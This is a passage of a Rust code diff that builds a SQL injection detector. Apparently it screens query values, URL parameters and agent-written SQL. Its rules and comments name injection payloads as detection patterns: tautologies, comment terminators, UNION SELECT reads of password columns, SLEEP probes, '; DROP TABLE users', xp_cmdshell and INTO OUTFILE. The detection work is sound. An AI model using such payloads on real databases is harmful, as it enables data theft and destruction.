+            let plain = name != "SLEEP" && arg.is_some_and(|a| a.kind != Kind::RParen);
+            if !strict
+                || plain
+                || arg.is_some_and(|a| (a.kind == Kind::Num && closed) || a.kind == Kind::LParen || a.is_any(&["IF", "CASE", "SELECT"]))
+            {
+                found.push((Confidence::High, "sql.time-blind", at));
+            }
+        } else if call && name == "RANDOMBLOB" {
+            if arg.is_some_and(|a| a.kind == Kind::Num && a.text.len() >= 7) {
+                found.push((Confidence::High, "sql.time-blind", at));
+            }
+        } else if (call && named(&name, OOB_FUNCS))
+            || (!call
+                && named(&name, OOB_PROCS)
+                && (name.contains('.')
+                    || (i > 0 && t[i - 1].is_any(&["EXEC", "EXECUTE"]))
+                    || t.get(j).is_some_and(|x| x.kind == Kind::Str || x.text.starts_with('@'))))
+        {
+            found.push((Confidence::High, "sql.file-or-network", at));
+        } else if call && named(&name, ERROR_FUNCS) && !matches!(name.as_str(), "XMLTYPE" | "JSON_KEYS") {
+            found.push((if strict { Confidence::High } else { Confidence::Medium }, "sql.error-based", at));
+        } else if name == "WAITFOR"
+            && t.get(j).is_some_and(|x| x.is_any(&["DELAY", "TIME"]))
+            && t.get(j + 1).is_some_and(|x| x.kind == Kind::Str)
+        {
+            found.push((Confidence::High, "sql.time-blind", at));
+        } else if name == "INTO" && t.get(j).is_some_and(|x| x.is_any(&["OUTFILE", "DUMPFILE"])) {
+            found.push((Confidence::High, "sql.file-or-network", at));
+        } else if last_part(&name) == "SP_CONFIGURE"
+            && t.get(j).is_some_and(|x| {
+                x.kind == Kind::Str
+                    && matches!(
+                        x.text.to_ascii_lowercase().as_str(),
+                        "xp_cmdshell" | "ole automation procedures" | "ad hoc distributed queries" | "external scripts enabled"
+                    )
+            })
+        {
+            // Turning on command execution or out-of-band access.
+            found.push((Confidence::High, "sql.file-or-network", at));
+        } else if name == "COPY" {
+            // COPY ... FROM/TO PROGRAM 'cmd'
+            let end = (j + 40).min(t.len());
+            if let Some(k) = (j..end).find(|&k| t[k].is("PROGRAM") && k > 0 && t[k - 1].is_any(&["FROM", "TO"])) {
+                found.push((Confidence::High, "sql.file-or-network", t[i].at.start..t[k].at.end));
+            }
+        }
+        i = j.max(i + 1);
+    }
+}
+
+/// The end (exclusive token index) of a tautology or boolean probe starting
+/// right after `OR`/`AND` at `i`, if the expression is one: literal compared
+/// with literal, an identifier compared with itself, a bare true literal.
+/// Returns (index after, is a tautology).
+fn condition(t: &[Tok], mut i: usize, strict: bool) -> Option<(usize, bool)> {
+    while t.get(i).is_some_and(|x| x.kind == Kind::LParen) {
+        i += 1;
+    }
+    let not = t.get(i).is_some_and(|x| x.is("NOT"));
+    if not {
+        i += 1;
+    }
+    let a = t.get(i)?;
+    let op = t.get(i + 1);
+    let b = t.get(i + 2);
+    let is_cmp = |x: Option<&Tok>| {
+        x.is_some_and(|o| (o.kind == Kind::Op && CMP.contains(&o.text.as_str())) || o.is_any(&["LIKE", "IS", "RLIKE", "REGEXP", "GLOB"]))
+    };
+    let value = |x: &Tok| if x.kind == Kind::Word { x.text.clone() } else { x.text.to_ascii_lowercase() };
+    if is_cmp(op) {
+        let b = b?;
+        let opt = op.map_or("", |o| o.text.as_str());
+        let b_not = b.is("NOT");
+        let b = if b_not { t.get(i + 3)? } else { b };
+        let end = if b_not { i + 4 } else { i + 3 };
+        let same = value(a) == value(b) && a.kind != Kind::Op;
+        if a.literal() && b.literal() {
+            let equal_op = matches!(opt, "=" | "==" | "LIKE" | "<=>" | "IS" | "GLOB" | "RLIKE" | "REGEXP");
+            let truth = match (a.text.parse::<f64>(), b.text.parse::<f64>()) {
+                (Ok(x), Ok(y)) if !equal_op => match opt {
+                    "<" => x < y,
+                    ">" => x > y,
+                    "<=" => x <= y,
+                    ">=" => x >= y,
+                    _ => x != y,
+                },
+                _ if equal_op => same,
+                _ => !same,
+            };
+            return Some((end, truth != (not || b_not)));
+        }
+        if a.kind == Kind::Word && b.kind == Kind::Word && same && !a.literal() {
+            return Some((end, true));
+        }
+        return None;
+    }
+    // `OR 1`, `OR TRUE`, `OR NOT FALSE`: a literal that ends the condition.
+    let ends = |x: Option<&Tok>| {
+        x.is_none_or(|n| {
+            matches!(n.kind, Kind::Comment | Kind::Semi | Kind::RParen)
+                || n.is_any(&["LIMIT", "ORDER", "GROUP", "UNION", "OR", "AND", "HAVING"])
+        })
+    };
+    if (a.kind == Kind::Num && a.text.parse::<f64>().is_ok_and(|v| v != 0.0)) || a.is("TRUE") || (not && (a.is("FALSE") || a.text == "0")) {
+        let sure = a.is("TRUE") || a.text == "1" || op.is_some_and(|o| o.kind == Kind::Comment);
+        if ends(op) && (sure || !strict) {
+            return Some((i + 1, true));
+        }
+    }
+    None
+}
+
+/// The expression after `OR`/`AND` in a break-out: a function call, a
+/// subquery, `EXISTS`, `CASE`, a literal comparison.
+fn sqlish_after(t: &[Tok], i: usize) -> bool {
+    let mut k = i;
+    while t.get(k).is_some_and(|x| x.kind == Kind::LParen || x.is("NOT")) {
+        k += 1;
+    }
+    let Some(x) = t.get(k) else { return false };
+    if x.is_any(&["SELECT", "EXISTS", "CASE", "SLEEP", "BENCHMARK", "PG_SLEEP"]) {
+        return true;
+    }
+    if let Some((name, j)) = name_at(t, k) {
+        if t.get(j).is_some_and(|y| y.kind == Kind::LParen) && named(&name, PROBE_FUNCS) {
+            return true;
+        }
+        if name.starts_with('@') {
+            return true;
+        }
+    }
+    if condition(t, i, true).is_some() {
+        return true;
+    }
+    // `X = Y` where either side is a call or a subquery: `1=(SELECT ...)`, `'a'=CHR(97)`, `user=0x61`.
+    let cmp_at = (k..(k + 3).min(t.len()))
+        .find(|&m| (t[m].kind == Kind::Op && CMP.contains(&t[m].text.as_str())) || t[m].is_any(&["LIKE", "RLIKE", "REGEXP", "ILIKE"]));
+    if let Some(m) = cmp_at {
+        let left_ok = t[k].literal() || t[k].kind == Kind::Word || t[k].kind == Kind::Ident;
+        let mut r = m + 1;
+        while t.get(r).is_some_and(|x| x.kind == Kind::LParen) {
+            r += 1;
+        }
+        let right_ok = t.get(r).is_some_and(|x| {
+            x.literal() || x.is("SELECT") || (x.kind == Kind::Word && t.get(r + 1).is_some_and(|y| y.kind == Kind::LParen))
+        });
+        return left_ok && right_ok;
+    }
+    false
+}
+
+/// Value mode: the text is tokenized as a number context and as the inside
+/// of a single- and a double-quoted literal.
+fn value_rules(text: &str, len: usize, context: Context, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let mysql = MySqlDialect {};
+    // A query string writes spaces as `+`.
+    let spaced;
+    let text = if (context == Context::Url || text.contains('=')) && text.contains('+') && !text.contains(' ') {
+        spaced = text.replace('+', " ");
+        spaced.as_str()
+    } else {
+        text
+    };
+    // Cheap gates before each tokenization: most values with a quote are
+    // prose ("it's", "O'Brien") with nothing SQL after the quote.
+    let has = |re: &LazyLock<Option<BytesRegex>>, t: &str| re.as_ref().is_some_and(|r| r.is_match(t.as_bytes()));
+    let is_prose = prose(text);
+    // Calls are not judged in prose: no need to look for their names there.
+    let danger = !is_prose && has(&DANGER, text);
+    // Prose that mentions `UNION SELECT` or `SLEEP(5)` (a ticket, a
+    // write-up) is judged only on a quote break-out.
+    if !is_prose && (danger || has(&BARE_HEAD, text)) {
+        let bare = lex(text, 0, len, &mysql);
+        dangerous_calls(&bare, true, found);
+        anywhere(text, &bare, found);
+        bare_rules(&bare, found);
+    }
+    // MySQL reads `\'` as an escaped quote; an application that escapes
+    // quotes by doubling them does not: both readings.
+    let generic = GenericDialect {};
+    let backslash = text.contains("\\'") || text.contains("\\\"");
+    let readings: [(char, &dyn Dialect); 4] = [('\'', &mysql), ('"', &mysql), ('\'', &generic), ('"', &generic)];
+    for (n, (quote, dialect)) in readings.into_iter().enumerate() {
+        let Some(first) = text.find(quote) else { continue };
+        if n >= 2 && !backslash {
+            continue;
+        }
+        let after = text.get(first + 1..).unwrap_or("");
+        let escaped = after.starts_with(quote) || text.get(..first).is_some_and(|b| b.ends_with('\\'));
+        if !(danger || escaped || has(&BREAK_HEAD, after)) {
+            continue;
+        }
+        let src = format!("{quote}a{text}{quote}");
+        let toks = lex(&src, 2, len, dialect);
+        if toks.first().is_some_and(|t| t.kind == Kind::Str) {
+            // An unclosed `/*` right after the quote (`admin'/*`) stops the tokenizer.
+            let end = toks.first().map_or(0, |t| t.at.end);
+            if toks.len() == 1 && text.get(end..).is_some_and(|r| r.trim_start_matches([')', ' ']).starts_with("/*")) {
+                found.push((Confidence::High, "sql.comment-terminator", end.saturating_sub(1)..end + 2));
+            }
+            break_out(&toks[1..], is_prose, found);
+        }
+    }
+}
+
+/// Value rules on each query parameter of a URL (at most 32), with byte
+/// ranges in the URL.
+fn query_values(url: &str, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let Some(q) = url.find('?') else { return };
+    let query = url.get(q + 1..).unwrap_or("");
+    let query = query.split('#').next().unwrap_or(query);
+    let mut offset = q + 1;
+    for part in query.split('&').take(32) {
+        if let Some((_, v)) = part.split_once('=')
+            && !v.is_empty()
+            && VALUE_TRIGGER.as_ref().is_some_and(|r| r.is_match(v.as_bytes()))
+        {
+            let start = offset + (part.len() - v.len());
+            let mut mine = Vec::new();
+            value_rules(v, v.len(), Context::Url, &mut mine);
+            found.extend(mine.into_iter().map(|(c, r, at)| (c, r, at.start + start..at.end + start)));
+        }
+        offset += part.len() + 1;
+    }
+}
+
+/// Whether a text reads as prose: ten words or more, most of them plain
+/// lower-case words (a sentence that mentions `SLEEP(5)` is not a payload).
+fn prose(text: &str) -> bool {
+    // Bytes, not chars: a lower-case ASCII letter or any non-ASCII byte
+    // (accented letters) counts as a letter; the first 40 words decide.
+    let (mut words, mut plain) = (0usize, 0usize);
+    for w in text.as_bytes().split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty()).take(40) {
+        words += 1;
+        let mut end = w.len();
+        while end > 0 && matches!(w[end - 1], b',' | b'.' | b':' | b'!' | b'?') {
+            end -= 1;
+        }
+        if end > 0 && w[..end].iter().all(|b| b.is_ascii_lowercase() || *b >= 0x80) {
+            plain += 1;
+        }
+    }
+    words >= 10 && plain * 2 >= words
+}
+
+/// Rules that hold wherever the tokens sit in a value: `UNION SELECT`,
+/// a `;` that starts a destructive statement.
+fn anywhere(text: &str, t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
+    let mut reads: Option<bool> = None;
+    for (i, x) in sig.iter().enumerate() {
+        // `1e0UNION`, `1.UNION`: a number glued to the keyword (MySQL reads both).
+        let glued =
+            x.kind == Kind::Word && x.text.len() > 5 && x.text.ends_with("UNION") && x.text.starts_with(|c: char| c.is_ascii_digit());
+        if x.is("UNION") || glued {
+            let mut k = i + 1;
+            while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
+                k += 1;
+            }
+            // One parse per value at most: the first UNION SELECT decides.
+            if sig.get(k).is_some_and(|y| y.is("SELECT")) && *reads.get_or_insert_with(|| union_reads(text, &sig, k)) {
+                found.push((Confidence::High, "sql.union-select", x.at.start..sig[k].at.end));
+            }
+        } else if x.kind == Kind::Semi
+            && let Some(end) = stacked(&sig, i + 1)
+        {
+            found.push((Confidence::High, "sql.stacked-statement", x.at.start..end));
+        }
+    }
+}
+
+/// Whether the `SELECT` at `sig[k]` starts a real query, not prose ("how
+/// to union select results from two tables"): its select list is a probe
+/// (`NULL`, numbers, `@@version`, a call, `*`), or the rest parses as SQL.
+fn union_reads(text: &str, sig: &[&Tok], k: usize) -> bool {
+    let Some(first) = sig.get(k + 1) else { return false };
+    if first.literal()
+        || first.text.starts_with('@')
+        || first.is_op("*")
+        || sig.get(k + 2).is_some_and(|x| x.kind == Kind::LParen || x.kind == Kind::Comma)
+    {
+        return true;
+    }
+    // A select list of words needs a FROM ("remove the UNION SELECT hack" parses as SQL).
+    if !sig.iter().skip(k + 1).take(64).any(|x| x.is("FROM")) {
+        return false;
+    }
+    let Some(rest) = text.get(sig[k].at.start..) else { return false };
+    let dialects: [&dyn Dialect; 2] = [&MySqlDialect {}, &GenericDialect {}];
+    dialects
+        .iter()
+        .any(|d| Parser::new(*d).with_recursion_limit(RECURSION_LIMIT).try_with_sql(rest).and_then(|mut p| p.parse_statements()).is_ok())
+}
+
+/// A statement that an injected `;` at `i - 1` starts, with enough
+/// structure not to be prose (`; DROP TABLE users`, `; EXEC xp_cmdshell`).
+/// Returns the end byte.
+fn stacked(sig: &[&Tok], i: usize) -> Option<usize> {
+    let a = sig.get(i)?;
+    let b = sig.get(i + 1);
+    let bw = |w: &[&str]| b.is_some_and(|b| b.is_any(w));
+    let ok = match a.text.as_str() {
+        _ if a.kind != Kind::Word => false,
+        "DROP" | "CREATE" | "ALTER" => {
+            bw(&["TABLE", "DATABASE", "SCHEMA", "USER", "LOGIN", "VIEW", "PROCEDURE", "FUNCTION", "TRIGGER", "INDEX", "ROLE"])
+        }
+        "DELETE" => bw(&["FROM"]),
+        "INSERT" | "REPLACE" => bw(&["INTO"]),
+        "UPDATE" => sig.get(i + 2).is_some_and(|c| c.is("SET")),
+        "TRUNCATE" => bw(&["TABLE"]) || b.is_some_and(|b| b.kind == Kind::Word && sig.get(i + 2).is_none_or(|c| c.kind != Kind::Word)),
+        "EXEC" | "EXECUTE" => {
+            b.is_some_and(|b| b.kind == Kind::Word || b.kind == Kind::Ident || b.kind == Kind::LParen || b.kind == Kind::Op)
+        }
+        "DECLARE" => b.is_some_and(|b| b.text.starts_with('@') || b.kind == Kind::Op),
+        "SHUTDOWN" | "RECONFIGURE" => true,
+        "WAITFOR" => bw(&["DELAY", "TIME"]),
+        "SELECT" => sig.iter().skip(i + 1).take(12).any(|c| {
+            c.is_any(&["FROM", "SLEEP", "PG_SLEEP", "LOAD_FILE", "BENCHMARK", "VERSION", "USER", "NULL"]) || c.text.starts_with('@')
+        }),
+        "COPY" => sig.iter().skip(i + 1).take(8).any(|c| c.is_any(&["FROM", "TO"])),
+        "GRANT" | "REVOKE" => sig.iter().skip(i + 1).take(8).any(|c| c.is_any(&["TO", "ON", "FROM"])),
+        "SET" => b.is_some_and(|b| b.text.starts_with('@')) || bw(&["GLOBAL", "PASSWORD"]),
+        "KILL" | "BACKUP" | "RESTORE" | "DBCC" | "ATTACH" | "LOAD" => b.is_some_and(|b| b.kind == Kind::Word || b.kind == Kind::Num),
+        "IF" => b.is_some_and(|b| b.kind == Kind::LParen),
+        "CALL" | "USE" => false,
+        _ => false,
+    };
+    ok.then(|| sig.get(i + 2).or(b).map_or(a.at.end, |x| x.at.end))
+}
+
+/// Number context: `1 OR 1=1`, `1) AND SLEEP(5)`, `-1 UNION SELECT`.
+fn bare_rules(t: &[Tok], found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
+    // The value: an optional sign, a number or one word, then closing parentheses.
+    let mut i = 0;
+    if sig.get(i).is_some_and(|x| x.is_op("-")) {
+        i += 1;
+    }
+    let Some(v) = sig.get(i) else { return };
+    if !matches!(v.kind, Kind::Num | Kind::Word | Kind::Ident) {
+        return;
+    }
+    let number = v.kind == Kind::Num;
+    i += 1;
+    while sig.get(i).is_some_and(|x| x.kind == Kind::RParen) {
+        i += 1;
+    }
+    let Some(op) = sig.get(i) else { return };
+    if op.is_any(&["OR", "XOR"]) || op.is_op("||") {
+        if let Some((end, true)) = condition_sig(&sig, i + 1, true) {
+            found.push((Confidence::High, "sql.tautology", op.at.start..end));
+        } else if number && sqlish_after_sig(&sig, i + 1) {
+            found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
+        }
+    } else if op.is_any(&["AND", "RLIKE", "REGEXP", "LIKE"]) || op.is_op("&&") {
+        if number && sqlish_after_sig(&sig, i + 1) {
+            found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
+        }
+    } else if number
+        && op.is_any(&["ORDER", "GROUP"])
+        && sig.get(i + 1).is_some_and(|x| x.is("BY"))
+        && sig.get(i + 2).is_some_and(|x| x.kind == Kind::Num)
+    {
+        found.push((Confidence::Medium, "sql.column-probe", op.at.start..op.at.end));
+    } else if number && op.is("HAVING") && condition_sig(&sig, i + 1, true).is_some() {
+        found.push((Confidence::High, "sql.boolean-blind", op.at.start..op.at.end));
+    } else if number && op.kind == Kind::Semi && sig.get(i + 1).is_some_and(|x| x.is_any(JS_HEADS)) && sig.get(i + 2).is_some() {
+        found.push((Confidence::High, "sql.nosql-js-injection", op.at.start..op.at.end));
+    }
+}
+
+/// [`condition`] on a filtered token list.
+fn condition_sig(sig: &[&Tok], i: usize, strict: bool) -> Option<(usize, bool)> {
+    let owned: Vec<Tok> = sig.iter().skip(i).take(8).map(|t| (*t).clone()).collect();
+    condition(&owned, 0, strict).map(|(k, taut)| (owned.get(k.saturating_sub(1)).map_or(0, |t| t.at.end), taut))
+}
+
+/// [`sqlish_after`] on a filtered token list.
+fn sqlish_after_sig(sig: &[&Tok], i: usize) -> bool {
+    let owned: Vec<Tok> = sig.iter().skip(i).take(12).map(|t| (*t).clone()).collect();
+    sqlish_after(&owned, 0)
+}
+
+/// String context: the tokens right after the literal the value closes.
+fn break_out(tail: &[Tok], prose: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let mut i = 0;
+    while tail.get(i).is_some_and(|x| x.kind == Kind::RParen) {
+        i += 1;
+    }
+    let Some(first) = tail.get(i) else { return };
+    let start = tail.first().map_or(0, |t| t.at.start);
+    let sig: Vec<&Tok> = tail[i..].iter().filter(|x| x.kind != Kind::Comment).collect();
+    match first.kind {
+        Kind::Comment => {
+            // `admin'--`, `admin'#`, `x' -- -`: an empty comment (the closing
+            // quote the application adds is all it holds). `"#alerts"` is not.
+            let body = first.text.trim_end_matches(['\'', '"']);
+            let empty_start = body.is_empty() || body.starts_with([' ', '\t', '-', '+', '\n', '\r']);
+            if !body.contains(['\'', '"']) && empty_start {
+                found.push((Confidence::High, "sql.comment-terminator", start..first.at.end));
+            }
+            return;
+        }
+        Kind::Semi => {
+            let next = tail.get(i + 1);
+            if next.is_none_or(|n| n.kind == Kind::Comment) {
+                found.push((Confidence::High, "sql.comment-terminator", start..first.at.end));
+            } else if sig.get(1).is_some_and(|x| x.is_any(JS_HEADS)) && sig.len() > 2 {
+                found.push((Confidence::High, "sql.nosql-js-injection", start..sig[1].at.end));
+            } else if let Some(end) = stacked(&sig, 1) {
+                found.push((Confidence::High, "sql.stacked-statement", start..end));
+            } else if sig.get(1).is_some_and(|x| x.is_any(STACKED_HEADS)) {
+                found.push((Confidence::Medium, "sql.stacked-statement", start..sig[1].at.end));
+            }
+            return;
+        }
+        _ => {}
+    }
+    if !prose {
+        dangerous_calls(tail, true, found);
+    }
+    let Some(op) = sig.first() else { return };
+    // Prose after a quote ends on a plain word (`' OR 1=1 mean`); a break-out
+    // ends on a comment, the closing quote's literal, a parenthesis, a number.
+    let commented = tail.iter().any(|x| x.kind == Kind::Comment);
+    let prose_end = !commented
+        && sig.last().is_some_and(|x| x.kind == Kind::Word && !x.is_any(&["TRUE", "FALSE", "NULL", "END", "DUAL", "USER", "VERSION"]));
+    let rest_sql = |k: usize| sqlish_after_sig(&sig, k);
+    if (op.is_op("||") || op.is_op("&&") || op.kind == Kind::Semi) && sig.get(1).is_some_and(|x| x.is("THIS")) {
+        // `' && this.password.match(/^a/)//`: JavaScript in a `$where`.
+        found.push((Confidence::High, "sql.nosql-js-injection", start..op.at.end));
+    } else if prose_end && sig.len() > 1 && !op.is("UNION") {
+        // Only the unmistakable: UNION SELECT, calls (handled above).
+    } else if op.is_any(&["OR", "AND", "XOR", "RLIKE", "REGEXP"])
+        || op.is_op("||")
+        || op.is_op("&&")
+        || op.is_op("|")
+        || op.is_op("&")
+        || op.is_op("^")
+    {
+        let cond = condition_sig(&sig, 1, false).filter(|(end, _)| {
+            // What follows the condition: the end, a comment, more SQL; not prose.
+            let next = sig.iter().find(|x| x.at.start >= *end);
+            next.is_none_or(|n| {
+                matches!(n.kind, Kind::Str | Kind::Semi | Kind::RParen | Kind::Op | Kind::Comma)
+                    || n.is_any(&["AND", "OR", "LIMIT", "ORDER", "GROUP", "UNION", "HAVING", "INTO", "XOR", "PROCEDURE", "--"])
+            }) || tail.iter().any(|x| x.kind == Kind::Comment && x.at.start >= *end && next.is_some_and(|n| x.at.start <= n.at.start))
+        });
+        if let Some((end, taut)) = cond {
+            let rule = if taut && !op.is_any(&["AND"]) && !op.is_op("&&") { "sql.tautology" } else { "sql.boolean-blind" };
+            found.push((Confidence::High, rule, start..end));
+        } else if rest_sql(1) {
+            found.push((Confidence::High, "sql.boolean-blind", start..op.at.end));
+        } else if op.is_op("||") && sig.get(1).is_some_and(|x| x.kind == Kind::Word) && sig.get(2).is_some_and(|x| x.kind == Kind::LParen) {
+            // `'||pg_sleep(5)||'`, `'||(SELECT ...)||'`: concatenating a call into the literal.
+            found.push((Confidence::Medium, "sql.concat-call", start..op.at.end));
+        }
+    } else if op.is("UNION") {
+        let mut k = 1;
+        while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
+            k += 1;
+        }
+        if sig.get(k).is_some_and(|y| y.is("SELECT")) {
+            found.push((Confidence::High, "sql.union-select", start..op.at.end));
+        }
+    } else if op.is_any(&["ORDER", "GROUP"]) && sig.get(1).is_some_and(|x| x.is("BY")) {
+        if sig.get(2).is_some_and(|x| x.kind == Kind::Num || x.kind == Kind::LParen) {
+            found.push((Confidence::High, "sql.column-probe", start..op.at.end));
+        }
+    } else if (op.is_any(&["HAVING", "LIMIT", "PROCEDURE", "INTO", "WAITFOR", "WHERE"]) && sig.len() > 1)
+        || ((op.is_op("+") || op.is_op("-") || op.is_op("*") || op.is_op("=") || op.is_op("<>") || op.is_op("!=")) && rest_sql(1))
+    {
+        found.push((Confidence::High, "sql.break-out", start..op.at.end));
+    } else if op.is_op("=") || op.is_op("==") {
+        // `'='`: a literal compared with the rest of the query.
+        if sig.get(1).is_some_and(|x| x.kind == Kind::Str) && sig.get(2).is_some_and(|x| x.is_any(&["OR", "AND"])) {
+            found.push((Confidence::High, "sql.tautology", start..op.at.end));
+        }
+    }
+    // Reconnaissance reads after a break-out (not after prose: "it's in information_schema").
+    let head = op.is_any(&["OR", "AND", "XOR", "UNION", "ORDER", "GROUP", "HAVING", "LIMIT", "INTO", "WHERE", "RLIKE", "REGEXP", "LIKE"])
+        || op.kind == Kind::Op;
+    for x in sig.iter().filter(|_| head && !prose_end) {
+        if x.kind == Kind::Word && (RECON.contains(&x.text.as_str()) || x.text.starts_with("@@")) && sig.len() > 2 {
+            found.push((Confidence::High, "sql.recon", x.at.clone()));
+            break;
+        }
+    }
+}
+
+/// Statement mode: a whole SQL text the agent writes.
+fn statement_rules(text: &str, len: usize, strict: bool, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let t = lex(text, 0, len, &GenericDialect {});
+    dangerous_calls(&t, strict, found);
+    // `WHERE user = 'admin' --' AND pass = ''`: the rest of the query
+    // commented out right after a compared literal.
+    for w in t.windows(3) {
+        if let [cmp, lit, c] = w
+            && lit.kind == Kind::Str
+            && c.kind == Kind::Comment
+            && (cmp.kind == Kind::Op && CMP.contains(&cmp.text.as_str()) || cmp.is("LIKE"))
+            && c.text.contains(['\'', '"'])
+            && (c.text.contains('=') || c.text.to_ascii_uppercase().contains(" AND ") || c.text.to_ascii_uppercase().contains(" OR "))
+        {
+            found.push((Confidence::High, "sql.commented-remainder", lit.at.start..c.at.end));
+            break;
+        }
+    }
+    let sig: Vec<&Tok> = t.iter().filter(|x| x.kind != Kind::Comment).collect();
+    // Statements: a read, then something destructive.
+    let first_read =
+        sig.first().is_some_and(|x| x.is_any(&["SELECT", "WITH", "VALUES", "SHOW", "EXPLAIN", "DESCRIBE"]) || x.kind == Kind::LParen);
+    let mut seen_union = false;
+    for (i, x) in sig.iter().enumerate() {
+        if x.kind == Kind::Semi
+            && first_read
+            && let Some(next) = sig.get(i + 1)
+        {
+            let account = sig.get(i + 2).is_some_and(|y| y.is_any(&["USER", "LOGIN", "ROLE"]));
+            let strong = next.is_any(&[
+                "DROP",
+                "TRUNCATE",
+                "SHUTDOWN",
+                "EXEC",
+                "EXECUTE",
+                "GRANT",
+                "DECLARE",
+                "WAITFOR",
+                "REVOKE",
+                "KILL",
+                "RECONFIGURE",
+            ]) || (next.is_any(&["ALTER", "CREATE"]) && account);
+            let write = next.is_any(&["DELETE", "UPDATE", "INSERT", "REPLACE", "MERGE", "COPY", "SET", "LOAD", "CALL"]);
+            if strong && stacked(&sig, i + 1).is_some() {
+                // After a literal (`... = 'x'; DROP TABLE`): a break-out from a value.
+                let after_literal = i > 0 && sig[i - 1].kind == Kind::Str;
+                found.push((
+                    if after_literal { Confidence::High } else { Confidence::Medium },
+                    "sql.stacked-statement",
+                    x.at.start..next.at.end,
+                ));
+            } else if write {
+                // A DELETE or UPDATE of every row after a read: Medium; other writes: Low.
+                let whole_table = next.is_any(&["DELETE", "UPDATE"])
+                    && stacked(&sig, i + 1).is_some()
+                    && !sig.iter().skip(i + 1).take_while(|y| y.kind != Kind::Semi).take(64).any(|y| y.is("WHERE"));
+                let c = if whole_table { Confidence::Medium } else { Confidence::Low };
+                found.push((c, "sql.stacked-statement", x.at.start..next.at.end));
+            }
+        }
+        // `slug = 'intro' AND ASCII(SUBSTRING((SELECT password ...`: a probe
+        // glued to a compared literal.
+        if x.is_any(&["AND", "OR"])
+            && i >= 2
+            && sig[i - 1].kind == Kind::Str
+            && sig[i - 2].kind == Kind::Op
+            && CMP.contains(&sig[i - 2].text.as_str())
+            && sig.get(i + 1).is_some_and(|f| {
+                f.is_any(&["ASCII", "ORD", "SUBSTRING", "SUBSTR", "MID", "LENGTH", "IF", "IIF", "UNICODE", "CHAR", "EXISTS", "HEX"])
+            })
+            && sig.iter().skip(i + 2).take(10).any(|y| y.is("SELECT"))
+        {
+            found.push((Confidence::High, "sql.boolean-blind", x.at.start..sig[i + 1].at.end));
+        }
+        if (x.is_any(&["OR", "XOR"]) || x.is_op("||"))
+            && let Some((end, true)) = condition_sig(&sig, i + 1, true)
+        {
+            let after_literal = i > 0 && sig[i - 1].kind == Kind::Str;
+            let c = if after_literal { Confidence::High } else { Confidence::Medium };
+            found.push((c, "sql.tautology", x.at.start..end));
+        }
+        if x.is("UNION") {
+            seen_union = true;
+            union_probe(&sig, i, found);
+            union_after_literal(&t, &sig, i, found);
+        }
+        if x.kind == Kind::Word && x.text.starts_with("@@") && x.text.len() > 2 && seen_union {
+            found.push((Confidence::Medium, "sql.recon", x.at.clone()));
+        }
+    }
+}
+
+/// Fields that name a column or an order: a subquery or a statement there
+/// is injection.
+const ORDER_FIELDS: &[&str] =
+    &["sort", "orderby", "order_by", "order", "sortby", "sort_by", "column", "columns", "groupby", "group_by", "fields", "select"];
+
+/// A SQL fragment (`where`, `filter`, `sort`): tautologies and stacked
+/// statements as in a statement, subqueries in an order field.
+fn fragment_rules(text: &str, len: usize, field: &str, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    statement_rules(text, len, true, found);
+    if ORDER_FIELDS.contains(&field) {
+        let t = lex(text, 0, len, &GenericDialect {});
+        if let Some(x) =
+            t.iter().find(|x| x.is_any(&["SELECT", "SLEEP", "PG_SLEEP", "BENCHMARK", "WAITFOR", "UNION"]) || x.kind == Kind::Semi)
+        {
+            found.push((Confidence::High, "sql.order-by-injection", x.at.clone()));
+        }
+    }
+}
+
+/// Column names an injected UNION reads.
+const SENSITIVE: &[&str] = &[
+    "PASSWORD",
+    "PASSWD",
+    "PWD",
+    "PASS",
+    "PASSWORD_HASH",
+    "PASS_HASH",
+    "HASH",
+    "SECRET",
+    "TOKEN",
+    "API_KEY",
+    "CARD_NUMBER",
+    "CVV",
+    "SSN",
+    "SALT",
+];
+
+/// `WHERE c = 'toys' UNION SELECT username, password FROM admins--`: a
+/// UNION glued to a compared literal that reads credentials or ends on a
+/// terminator comment.
+fn union_after_literal(t: &[Tok], sig: &[&Tok], i: usize, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    if i < 2 || sig[i - 1].kind != Kind::Str || !(sig[i - 2].kind == Kind::Op && CMP.contains(&sig[i - 2].text.as_str())) {
+        return;
+    }
+    let terminated = t.last().is_some_and(|c| c.kind == Kind::Comment && c.text.trim_matches([' ', '-', '\n', '\r', '\t']).is_empty());
+    let sensitive = sig.iter().skip(i + 1).take(24).any(|y| y.kind == Kind::Word && SENSITIVE.contains(&y.text.as_str()));
+    if terminated || sensitive {
+        found.push((Confidence::High, "sql.union-select", sig[i - 1].at.start..sig[i].at.end));
+    }
+}
+
+/// `UNION SELECT NULL,NULL,NULL` or `UNION SELECT 1,2,3`: a column-count
+/// probe, not a report.
+fn union_probe(sig: &[&Tok], i: usize, found: &mut Vec<(Confidence, &'static str, Range<usize>)>) {
+    let mut k = i + 1;
+    while sig.get(k).is_some_and(|y| y.is_any(&["ALL", "DISTINCT"]) || y.kind == Kind::LParen) {
+        k += 1;
+    }
+    if !sig.get(k).is_some_and(|y| y.is("SELECT")) {
+        return;
+    }
+    let mut items = 0;
+    let mut placeholders = 0;
+    let mut j = k + 1;
+    while let Some(y) = sig.get(j) {
+        if y.kind == Kind::Comma {
+            j += 1;
+            continue;
+        }
+        if y.is("NULL") || y.kind == Kind::Num {
+            placeholders += 1;
+            items += 1;
+            j += 1;
+            continue;
+        }
+        break;
+    }
+    let next = sig.get(j);
